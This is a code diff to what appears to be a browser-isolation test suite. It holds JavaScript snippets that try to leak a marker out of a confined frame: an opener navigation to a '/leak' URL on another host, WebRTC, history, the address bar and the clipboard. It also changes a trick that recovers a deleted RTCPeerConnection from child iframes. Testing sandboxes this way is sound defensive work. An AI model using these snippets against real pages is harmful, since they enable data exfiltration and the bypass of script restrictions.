@@ -292,12 +292,12 @@ LEAVING: dict[str, str] = {
     "opener's location =": "top.opener.location = `${other}/leak?${mark}`",
 }
 RTC = """
+  // The frame's script has deleted it; a child frame would give it back.
   let Peer = self.RTCPeerConnection;
-  for (const address of ['about:blank', 'javascript:0', 'data:text/html,x', '']) {
+  for (const text of ['<iframe></iframe>', '<iframe srcdoc="<p>x"></iframe>', '<iframe src="data:text/html,x"></iframe>']) {
     if (Peer) break;
-    const child = document.body.appendChild(document.createElement('iframe'));
-    if (address) child.src = address; else child.srcdoc = '<p>x';
-    try { Peer = child.contentWindow.RTCPeerConnection; } catch {}
+    document.body.insertAdjacentHTML('beforeend', text);
+    try { Peer = document.body.lastElementChild.contentWindow.RTCPeerConnection; } catch {}
   }
   const peer = new Peer({ iceServers: [%s] });
   peer.createDataChannel('x');
@@ -383,6 +383,8 @@ WINDOW: dict[str, str | tuple[str, Seen]] = {
     "the top page's history": ("top.history.pushState(null, '', `#${mark}`)", "told"),
     "the clipboard, by command": (
         """
+      self.focus();
+      await sleep(100);
       document.addEventListener('copy', (event) => {
         event.preventDefault();
         event.clipboardData.setData('text/plain', mark);
@@ -400,7 +402,7 @@ WINDOW: dict[str, str | tuple[str, Seen]] = {
     ),
 }
 WINDOW_ALONE: dict[str, tuple[str, Seen]] = {
-    "the clipboard": ("await navigator.clipboard.writeText(mark)", "told"),
+    "the clipboard": ("self.focus(); await sleep(100); await navigator.clipboard.writeText(mark)", "told"),
     "the top page's address": ("top.location.hash = mark; await sleep(300)", "told"),
     **{name: (GOING % code.strip(), "request") for name, code in LEAVING.items()},
 }
